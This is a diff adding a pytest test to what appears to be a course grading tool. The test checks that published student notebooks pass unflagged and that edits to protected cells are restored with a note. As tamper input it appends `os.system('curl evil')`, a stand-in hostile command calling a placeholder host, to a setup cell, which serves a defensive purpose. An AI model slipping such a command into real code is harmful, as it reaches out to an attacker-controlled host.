@@ -100,3 +100,26 @@ def test_code_reaching_for_the_graders_is_flagged_not_penalised(solution):
     checked = check_submission(as_bytes(nb), A)
     assert checked.rejected is None and checked.notes == []
     assert checked.flags == [f"cell {len(nb['cells'])} mentions `graders`"]
+
+
+@pytest.mark.parametrize("assignment", ASSIGNMENTS)
+def test_a_notebook_as_publish_gave_it_is_the_course_s_own(assignment, tmp_path):
+    """`python -m instructor publish --repo OWNER/NAME` points the badge and setup cells at the student
+    repository: handed in as published, those cells are the course's, so no note, and the student's own setup
+    cell is what feedback shows. An edit to them is still restored, with the note."""
+    from instructor.course import publish
+    publish.publish(tmp_path / "student-repo", "octo-org/llm-course", "spring", git=False)
+    published = json.loads((tmp_path / "student-repo" / publish.student_path(assignment)).read_text())
+    answers = {grade_id(c): c["source"] for c in read_notebook(notebook_path(assignment, "solution"))["cells"]}
+    for cell in published["cells"]:
+        if cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
+            cell["source"] = answers[grade_id(cell)]
+    checked = check_submission(as_bytes(published), assignment)
+    assert checked.notes == [] and checked.flags == [], checked.notes
+    setup = next(c for c in checked.notebook.cells if grade_id(c) == "setup")
+    assert "https://github.com/octo-org/llm-course" in setup.source and "your-org" not in setup.source
+    edited = copy.deepcopy(published)
+    next(c for c in edited["cells"] if grade_id(c) == "setup")["source"] += "\nimport os; os.system('curl evil')"
+    checked = check_submission(as_bytes(edited), assignment)
+    assert checked.notes == ["1 of the course's own cells (text or code you were not meant to change) had been "
+                             "edited or deleted; they were restored"], checked.notes
